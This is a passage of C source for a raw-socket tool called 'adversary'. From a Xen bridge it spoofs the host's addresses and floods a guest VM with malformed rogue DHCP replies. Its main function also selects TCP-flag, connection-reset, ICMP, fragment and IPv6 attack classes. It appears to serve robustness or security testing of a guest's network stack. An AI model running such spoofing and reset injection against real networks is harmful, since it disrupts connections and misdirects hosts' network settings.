        b[0] = 2; b[1] = 1; b[2] = 6; b[3] = (uint8_t)rndn(3);
        uint32_t xid = rnd() % 4 ? rnd() : 0;
        put32(b + 4, xid); put16(b + 8, (uint16_t)rnd()); put16(b + 10, rnd() % 2 ? 0x8000 : 0);
        uint32_t yi = (uint32_t[]){gip, htonl(0x0a0000c8 + rnd() % 50), 0, 0xffffffff, rnd()}[rnd() % 5];
        memcpy(b + 16, &yi, 4); memcpy(b + 20, &rogue, 4);
        memcpy(b + 28, gmac, 6);
        put32(b + 236, 0x63825363);
        uint8_t *op = b + 240;
        size_t k = 0;
        uint8_t mt = (uint8_t[]){2, 5, 6}[n % 3]; /* OFFER, ACK, NAK */
        if (rnd() % 16) { op[k++] = 53; op[k++] = 1; op[k++] = mt; }
        int nopt = rnd() % 10;
        for (int i = 0; i < nopt && k < 300; i++) {
            switch (rnd() % 12) {
            case 0: op[k++] = 54; op[k++] = 4; memcpy(op + k, &rogue, 4); k += 4; break;          /* server id */
            case 1: op[k++] = 51; op[k++] = 4; put32(op + k, (uint32_t[]){0, 1, 0xffffffff, rnd()}[rnd() % 4]); k += 4; break; /* lease */
            case 2: op[k++] = 1; op[k++] = 4; put32(op + k, (uint32_t[]){0, 0xffffffff, 0xff00ff00, rnd()}[rnd() % 4]); k += 4; break; /* mask */
            case 3: { int m = rnd() % 8; op[k++] = 3; op[k++] = (uint8_t)(4 * m); for (int j = 0; j < 4 * m; j++) op[k++] = rnd(); break; } /* routers */
            case 4: { int m = rnd() % 40; op[k++] = 6; op[k++] = (uint8_t)(4 * m); for (int j = 0; j < 4 * m; j++) op[k++] = rnd(); break; } /* DNS servers, many */
            case 5: op[k++] = (uint8_t)(1 + rnd() % 254); op[k++] = 0; break;                     /* zero-length option */
            case 6: op[k++] = (uint8_t)(1 + rnd() % 254); op[k++] = 255; break;                   /* over-long option */
            case 7: op[k++] = 52; op[k++] = 1; op[k++] = (uint8_t)(rnd() % 4); break;             /* overload */
            case 8: op[k++] = 53; op[k++] = (uint8_t)(rnd() % 3); op[k++] = (uint8_t)rnd(); break;/* message type, bad length */
            case 9: op[k++] = 0; break;                                                           /* pad */
            case 10: op[k++] = 255; break;                                                        /* end early */
            default: op[k++] = (uint8_t)rnd(); op[k++] = 3; op[k++] = rnd(); op[k++] = rnd(); op[k++] = rnd(); break;
            }
        }
        if (rnd() % 4) op[k++] = 255;
        size_t blen = 240 + k;
        if (rnd() % 16 == 0) blen = 236 + rndn(8); /* no (or a cut) magic cookie */
        size_t ulen = 8 + blen;
        put16(u, 67); put16(u + 2, 68); put16(u + 4, (uint16_t)ulen);
        uint32_t dst = unicast ? gip : 0xffffffff;
        l4sum4(u, ulen, 17, rogue, dst, 6);
        o += ip4(ip, rogue, dst, 17, ulen, (uint16_t)rnd(), 0);
        send_frame(f, o + ulen);
    }
}

static int parse_mac(const char *str, uint8_t *m) {
    unsigned v[6];
    if (sscanf(str, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) return -1;
    for (int i = 0; i < 6; i++) m[i] = (uint8_t)v[i];
    return 0;
}

int main(int argc, char **argv) {
    const char *ifname = NULL, *bridge = "xenbr0", *cls = NULL;
    long count = 100000;
    int have_mac = 0;
    int c;
    while ((c = getopt(argc, argv, "i:m:a:b:c:n:S:r:p:k:")) != -1) {
        switch (c) {
        case 'i': ifname = optarg; break;
        case 'm': if (parse_mac(optarg, gmac)) { fprintf(stderr, "adversary: bad MAC %s\n", optarg); return 1; } have_mac = 1; break;
        case 'a': if (inet_pton(AF_INET, optarg, &gip) != 1) { fprintf(stderr, "adversary: bad address %s\n", optarg); return 1; } break;
        case 'b': bridge = optarg; break;
        case 'c': cls = optarg; break;
        case 'n': count = atol(optarg); break;
        case 'S': s ^= (uint64_t)atoll(optarg) * 0x9e3779b97f4a7c15ull; if (!s) s = 1; break;
        case 'r': rate = atol(optarg); break;
        case 'p': { nports = 0; char *save, *tok = strtok_r(optarg, ",", &save);
                    while (tok && nports < 16) { ports[nports++] = atoi(tok); tok = strtok_r(NULL, ",", &save); } break; }
        case 'k': { unsigned sp, cp;
                    if (sscanf(optarg, "%u:%u", &sp, &cp) != 2 || nconns == 8) { fprintf(stderr, "adversary: bad -k %s\n", optarg); return 1; }
                    conns[nconns].sport = (uint16_t)sp; conns[nconns].cport = (uint16_t)cp; nconns++; break; }
        default: fprintf(stderr, "usage: see the comment at the top of adversary.c\n"); return 1;
        }
    }
    if (!ifname || !have_mac || !gip || !cls) {
        fprintf(stderr, "usage: adversary -i IFACE -m GUEST_MAC -a GUEST_IP -c CLASS [-b BRIDGE] [-n N] [-S SEED] [-r RATE] [-p PORTS] [-k SPORT:CPORT]\n");
        return 1;
    }
    for (int i = 0; i < 20; i++) rnd();
    fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (fd < 0) { perror("adversary: socket"); return 1; }
    /* dom0's bridge: the source MAC and address the attacker spoofs. */
    struct ifreq ifr = {0};
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", bridge);
    if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) { perror("adversary: bridge MAC"); return 1; }
    memcpy(mymac, ifr.ifr_hwaddr.sa_data, 6);
    int ufd = socket(AF_INET, SOCK_DGRAM, 0);
    if (ufd < 0 || ioctl(ufd, SIOCGIFADDR, &ifr) < 0) { perror("adversary: bridge address"); return 1; }
    memcpy(&myip, &((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr, 4);
    close(ufd);
    to.sll_family = AF_PACKET;
    to.sll_ifindex = (int)if_nametoindex(ifname);
    if (!to.sll_ifindex) { fprintf(stderr, "adversary: no interface %s\n", ifname); return 1; }
    to.sll_halen = 6;
    memcpy(to.sll_addr, gmac, 6);
    int needs_conns = !strcmp(cls, "established") || !strcmp(cls, "rst-exact");
    if (needs_conns && !nconns) { fprintf(stderr, "adversary: class %s needs -k\n", cls); return 1; }
    clock_gettime(CLOCK_MONOTONIC, &t0);
    if (nconns) { sniff_open(ifname); learn(); }
    long before = sent;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    if (!strcmp(cls, "tcpflags")) class_tcpflags(count);
    else if (!strcmp(cls, "established")) class_established(count);
    else if (!strcmp(cls, "rst-exact")) class_rst_exact();
    else if (!strcmp(cls, "icmp")) class_icmp(count);
    else if (!strcmp(cls, "frag")) class_frag(count);
    else if (!strcmp(cls, "ipv6")) class_ipv6(count);
    else if (!strcmp(cls, "dhcp")) class_dhcp(count);
    else { fprintf(stderr, "adversary: unknown class %s\n", cls); return 1; }
    flush();
    double t = elapsed();
    long n = sent - before;
    printf("adversary: %s sent %ld frames in %.2f s (%.0f frames/s, %ld retries)\n", cls, n, t, t > 0 ? (double)n / t : 0.0, retries);
    return 0;
}
